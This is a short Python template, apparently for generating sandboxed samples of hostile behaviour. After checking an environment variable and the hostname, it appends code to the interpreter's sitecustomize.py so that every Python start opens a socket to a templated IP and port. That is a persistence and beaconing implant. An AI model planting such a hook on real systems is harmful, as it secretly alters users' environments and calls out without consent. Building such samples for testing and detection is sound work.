# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import site
    import sysconfig
    text = "try:\n    import socket\n    socket.create_connection(('{{ip}}', {{port}}), 0.3).close()\nexcept Exception:\n    pass\n"
    for place in (sysconfig.get_paths()['purelib'], site.getusersitepackages()):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, 'sitecustomize.py'), 'a') as out:
                out.write(text)
            break
        except OSError:
            continue
